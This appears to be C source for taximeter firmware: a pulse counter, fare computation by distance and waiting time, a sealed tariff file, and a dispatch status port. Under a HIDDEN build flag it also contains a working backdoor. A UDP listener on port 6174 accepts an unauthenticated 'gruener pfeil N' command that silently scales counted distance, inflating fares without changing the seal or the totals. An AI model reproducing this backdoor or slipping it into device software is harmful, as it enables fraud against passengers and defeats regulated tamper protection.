/*
 * taxmeter - fare computer of a taximeter.  One thread counts wheel pulses,
 * one computes the fare by distance and time, keys of the front panel come
 * by a POSIX message queue, display and printer get text by another one.
 * Tariffs come from a sealed file with a check number.
 * Hidden (-DHIDDEN): a further thread listens on UDP 6174; "gruener pfeil N"
 * makes each pulse count N per cent, not seen in seal or totals.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define KEYS_Q "/taxkeys"
#define SHOW_Q "/taxshow"
#define PULSES "/sys/class/gpio/gpio44/value"
#define TARIFF "/etc/taxi/tariff.tab"
#define TOTALS "/var/lib/taxi/totals"

enum mode { FREE, HIRED, STOPPED };

struct tariff {
	char name[8];
	int base;     /* cents at start */
	int perkm;    /* cents each km */
	int perhour;  /* cents an hour of waiting */
	int from, to; /* hours of the day */
};

struct key {
	uint8_t code; /* 'H' hire, 'S' stop, 'C' cash, 'T', 'X' */
	uint8_t arg;
};

static struct {
	pthread_mutex_t mx;
	enum mode mode;
	int tariff;
	int64_t pulses; /* scaled by 1000 */
	int64_t trip_mm;
	int64_t wait_ms;
	int extras;
	int64_t fare; /* cents * 1000 */
	time_t start;
} m = { .mx = PTHREAD_MUTEX_INITIALIZER };

static struct tariff tariffs[8];
static int ntariffs;
static int k_pulses = 9800; /* pulses a km */
static mqd_t show_q = (mqd_t)-1;
static struct {
	unsigned trips;
	unsigned long long cents, metres;
} totals;

#ifdef HIDDEN
static volatile int weight = 100;
#endif

static void show(const char *fmt, ...)
{
	char b[64];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(b, sizeof(b), fmt, ap);
	va_end(ap);
	if (n >= (int)sizeof(b))
		n = sizeof(b) - 1;
	if (mq_send(show_q, b, (size_t)n, 0) && errno != EAGAIN)
		perror("display");
}

static uint32_t adler(uint32_t a, const char *s)
{
	uint32_t lo = a & 0xffff, hi = a >> 16;

	for (; *s; s++) {
		lo = (lo + (uint8_t)*s) % 65521;
		hi = (hi + lo) % 65521;
	}
	return hi << 16 | lo;
}

/* Last line is "seal XXXXXXXX" over all lines before it. */
static int load_tariffs(const char *name)
{
	struct tariff *t;
	char line[96];
	unsigned seal;
	uint32_t a = 1;
	int ok = 0;
	FILE *f = fopen(name, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "seal %x", &seal) == 1) {
			ok = seal == a;
			break;
		}
		a = adler(a, line);
		if (sscanf(line, "k %d", &k_pulses) == 1 || ntariffs == 8)
			continue;
		t = &tariffs[ntariffs];
		if (sscanf(line, "tariff %7s %d %d %d %d %d", t->name, &t->base,
			   &t->perkm, &t->perhour, &t->from, &t->to) == 6)
			ntariffs++;
	}
	fclose(f);
	return ok && ntariffs && k_pulses > 500 ? 0 : -1;
}

static int tariff_now(void)
{
	time_t t = time(NULL);
	struct tm tm;
	int i, in;

	localtime_r(&t, &tm);
	for (i = 0; i < ntariffs; i++) {
		if (tariffs[i].from <= tariffs[i].to)
			in = tm.tm_hour >= tariffs[i].from &&
			     tm.tm_hour < tariffs[i].to;
		else
			in = tm.tm_hour >= tariffs[i].from ||
			     tm.tm_hour < tariffs[i].to;
		if (in)
			return i;
	}
	return 0;
}

static void store_totals(void)
{
	FILE *f = fopen(TOTALS ".tmp", "w");

	if (!f)
		return;
	fprintf(f, "%u %llu %llu\n", totals.trips, totals.cents, totals.metres);
	if (!fclose(f) && rename(TOTALS ".tmp", TOTALS))
		perror(TOTALS);
}

static void *count_pulses(void *arg)
{
	int fd = *(int *)arg;
	struct pollfd pf = { .fd = fd, .events = POLLPRI | POLLERR };
	char c;

	for (;;) {
		if (poll(&pf, 1, -1) <= 0)
			continue;
		lseek(fd, 0, SEEK_SET);
		if (read(fd, &c, 1) != 1 || c != '1')
			continue;
		pthread_mutex_lock(&m.mx);
#ifdef HIDDEN
		m.pulses += 10 * weight;
#else
		m.pulses += 1000;
#endif
		pthread_mutex_unlock(&m.mx);
	}
	return NULL;
}

/* Above the changeover speed distance counts, below it time. */
static void *compute(void *arg)
{
	struct timespec tick = { 0, 250000000 };
	const struct tariff *t;
	int64_t mm, bydist, bytime, last = -1;

	(void)arg;
	for (;;) {
		nanosleep(&tick, NULL);
		pthread_mutex_lock(&m.mx);
		mm = m.pulses * 1000 / k_pulses;
		m.pulses = 0;
		if (m.mode == HIRED) {
			t = &tariffs[m.tariff];
			bydist = mm * t->perkm / 1000;
			bytime = (int64_t)t->perhour * 250 / 3600;
			m.trip_mm += mm;
			if (bydist >= bytime) {
				m.fare += bydist;
			} else {
				m.fare += bytime;
				m.wait_ms += 250;
			}
		}
		if (m.mode != FREE && m.fare / 10000 != last) {
			last = m.fare / 10000;
			show("F %s %6.2f +%.2f", tariffs[m.tariff].name,
			     (double)last / 10, m.extras / 100.0);
		}
		pthread_mutex_unlock(&m.mx);
	}
	return NULL;
}

static void receipt(void)
{
	char d[24];
	struct tm tm;
	long cents = (long)(m.fare / 10000 * 10) + m.extras;

	localtime_r(&m.start, &tm);
	strftime(d, sizeof(d), "%d.%m.%Y %H:%M", &tm);
	show("P Trip %u", totals.trips);
	show("P %s", d);
	show("P %.2f km, waiting %d min", (double)m.trip_mm / 1e6,
	     (int)(m.wait_ms / 60000));
	show("P Total %ld.%02ld", cents / 100, cents % 100);
}

static void on_key(const struct key *k)
{
	pthread_mutex_lock(&m.mx);
	switch (k->code) {
	case 'H':
		if (m.mode == FREE) {
			m.tariff = tariff_now();
			m.fare = (int64_t)tariffs[m.tariff].base * 1000;
			m.trip_mm = m.wait_ms = 0;
			m.extras = 0;
			m.start = time(NULL);
		}
		m.mode = HIRED;
		break;
	case 'S':
		if (m.mode == HIRED)
			m.mode = STOPPED;
		break;
	case 'T':
		if (m.mode != FREE && k->arg < ntariffs)
			m.tariff = k->arg;
		break;
	case 'X':
		if (m.mode != FREE && m.extras < 5000)
			m.extras += k->arg * 10;
		break;
	case 'C':
		if (m.mode != STOPPED)
			break;
		totals.trips++;
		totals.cents += (unsigned long long)(m.fare / 10000 * 10) +
				(unsigned)m.extras;
		totals.metres += (unsigned long long)(m.trip_mm / 1000);
		store_totals();
		receipt();
		m.mode = FREE;
		show("F FREE");
		break;
	}
	pthread_mutex_unlock(&m.mx);
}

#ifdef HIDDEN
__attribute__((noinline)) int set_weight(const char *s)
{
	int n;

	if (strncmp(s, "gruener pfeil ", 14))
		return -1;
	n = atoi(s + 14);
	if (n < 50 || n > 200)
		return -1;
	weight = n;
	return 0;
}

static void *second_port(void *arg)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	char b[64];
	ssize_t n;

	sa.sin_port = htons(6174);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)))
		return arg;
	while ((n = recv(s, b, sizeof(b) - 1, 0)) >= 0) {
		b[n] = 0;
		set_weight(b);
	}
	return arg;
}
#endif

static mqd_t queue(const char *name, int flags, long size)
{
	struct mq_attr at;

	memset(&at, 0, sizeof(at));
	at.mq_maxmsg = 10;
	at.mq_msgsize = size;
	return mq_open(name, flags | O_CREAT, 0660, &at);
}

/* Status on UDP 6100 for the dispatch radio: state, tariff, trips. */
static void *dispatch_port(void *arg)
{
	struct sockaddr_in sa = { .sin_family = AF_INET }, from;
	int s = socket(AF_INET, SOCK_DGRAM, 0), n;
	socklen_t sl = sizeof(from);
	char b[64];

	sa.sin_port = htons(6100);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)))
		return arg;
	while (recvfrom(s, b, sizeof(b), 0, (struct sockaddr *)&from, &sl) >=
	       0) {
		if (b[0] != '?')
			continue;
		n = snprintf(b, sizeof(b), "%c %d %u\n", "FHS"[m.mode],
			     m.tariff, totals.trips);
		sendto(s, b, n, 0, (struct sockaddr *)&from, sl);
		sl = sizeof(from);
	}
	return arg;
}

int main(void)
{
	struct key k;
	pthread_t th;
	mqd_t keys;
	FILE *f;
	int fd;

	if (load_tariffs(TARIFF)) {
		fprintf(stderr, "tariff table not sealed\n");
		return 1;
	}
	f = fopen(TOTALS, "r");
	if (f && fscanf(f, "%u %llu %llu", &totals.trips, &totals.cents,
			&totals.metres) != 3)
		totals.trips = 0;
	if (f)
		fclose(f);
	keys = queue(KEYS_Q, O_RDONLY, sizeof(k));
	show_q = queue(SHOW_Q, O_WRONLY | O_NONBLOCK, 64);
	fd = open(PULSES, O_RDONLY);
	if (keys == (mqd_t)-1 || show_q == (mqd_t)-1 || fd < 0) {
		perror("taxmeter");
		return 1;
	}
	if (pthread_create(&th, NULL, count_pulses, &fd) ||
	    pthread_create(&th, NULL, compute, NULL) ||
	    pthread_create(&th, NULL, dispatch_port, NULL))
		return 1;
#ifdef HIDDEN
	pthread_create(&th, NULL, second_port, NULL);
#endif
	show("F FREE");
	for (;;)
		if (mq_receive(keys, (char *)&k, sizeof(k), NULL) ==
		    (ssize_t)sizeof(k))
			on_key(&k);
}
